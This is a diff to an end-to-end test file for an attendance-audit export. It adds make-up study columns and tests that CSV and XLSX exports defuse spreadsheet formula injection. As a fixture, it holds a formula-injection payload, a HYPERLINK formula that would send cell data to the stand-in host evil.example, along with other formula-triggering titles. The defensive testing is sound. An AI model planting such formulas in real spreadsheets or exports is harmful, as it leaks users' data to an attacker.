@@ -77,8 +77,17 @@ describe('attendance audit (e2e)', () => {
     seqs.completionS2 = await f.log(S.S2.id, 'memberA1', 'completion', 'expected', 'absent', new Date(S.S2.completedAt!.getTime() + 1), { actor: null });
     seqs.markS2 = await f.log(S.S2.id, 'memberA', 'mark', 'absent', 'late', '2025-12-12T02:00:00Z', { actor: 'organiserA', reason: '补录签到' });
     seqs.markS2again = await f.log(S.S2.id, 'memberA', 'mark', 'late', 'late', '2025-12-12T03:00:00Z', { actor: 'organiserA', reason: '核实' });
+
+    // Outside every other test's range: titles a spreadsheet would run as formulas.
+    S.F1 = await f.session('branchB', '2025-10-01T07:00:00Z', HYPERLINK);
+    S.F2 = await f.session('branchB', '2025-10-01T09:00:00Z', '@SUM(1+1)');
+    S.F3 = await f.session('branchB', '2025-10-01T11:00:00Z', '\t-2+3');
+    for (const s of [S.F1, S.F2, S.F3]) await f.record(s.id, 'memberB', 'absent');
   });
   afterAll(() => t.close());
+
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
+  const formulaRange = () => ({ unitId: seed.units.branchB, from: '2025-10-01', to: '2025-10-01' });
 
   describe('summary', () => {
     it('counts each member and the totals exactly over the completed sessions of the subtree in the local range', async () => {
@@ -195,7 +204,7 @@ describe('attendance audit (e2e)', () => {
   });
 
   describe('export', () => {
-    const expectedRows = [
+    const recordRows = [
       ['2025-12-01', '集中学习会 12-01', '第一党支部', 'membera', '党员甲', '缺席', '', '2025-12-02 11:00:00', '第一党支部'],
       ['2025-12-01', '集中学习会 12-01', '第一党支部', 'membera1', '党员甲一', '出席', '2025-11-30 23:58:00', '', '第一党小组'],
       ['2025-12-01', '集中学习会 12-01', '第一党支部', 'organisera', '支部书记甲', '迟到', '2025-12-01 00:10:00', '', '第一党支部'],
@@ -207,7 +216,9 @@ describe('attendance audit (e2e)', () => {
       ['2025-12-11', '集中学习会 12-11 晚', '第一党支部', 'membera1', '党员甲一', '缺席', '', '', '第一党小组'],
       ['2025-12-11', '集中学习会 12-11 晚', '第一党支部', 'organisera', '支部书记甲', '出席', '2025-12-11 23:25:00', '', '第一党支部'],
     ];
-    const headers = ['日期', '学习会', '单位', '用户名', '姓名', '状态', '签到时间', '补学时间', '本人所在单位'];
+    // The make-up study is read back: 补学字数 (counted like Word) and 补学心得, empty without one.
+    const expectedRows = recordRows.map((r) => [...r, ...(r[7] ? ['4', '补学心得'] : ['', ''])]);
+    const headers = ['日期', '学习会', '单位', '用户名', '姓名', '状态', '签到时间', '补学时间', '本人所在单位', '补学字数', '补学心得'];
 
     it('writes CSV in UTF-8 with a BOM and Chinese headers, one row per record, named after the unit and range', async () => {
       const res = await get('export', { ...range(), format: 'csv' }).buffer(true).parse(binary).expect(200);
@@ -232,6 +243,26 @@ describe('attendance audit (e2e)', () => {
       const rows: string[][] = [];
       sheet.eachRow({ includeEmpty: false }, (row) => rows.push(headers.map((_, i) => String(row.getCell(i + 1).value ?? ''))));
       expect(rows).toEqual([headers, ...expectedRows]);
+    });
+
+    it("neutralises CSV cells that a spreadsheet would run as formulas with a leading '", async () => {
+      const res = await get('export', { ...formulaRange(), format: 'csv' }).buffer(true).parse(binary).expect(200);
+      const text = (res.body as Buffer).subarray(3).toString('utf8');
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点我"")"`);
+      expect(text).toContain(`,'@SUM(1+1),`);
+      expect(text).toContain(`,'\t-2+3,`);
+      for (const line of text.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@\t\r-]/);
+    });
+
+    it('writes such a title into XLSX as a plain string cell, never a formula', async () => {
+      const res = await get('export', { ...formulaRange(), format: 'xlsx' }).buffer(true).parse(binary).expect(200);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(res.body as never);
+      const titles = workbook.worksheets[0].getColumn(2).values.slice(2);
+      expect(titles).toEqual([HYPERLINK, '@SUM(1+1)', '\t-2+3']);
+      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+      const sheetXml = (res.body as Buffer).toString('latin1');
+      expect(sheetXml).not.toMatch(/<f>/); // (zip entries are deflated: the load above is the real proof)
     });
 
     it('defaults to CSV, exports the whole organisation without unitId, and refuses a bad format', async () => {
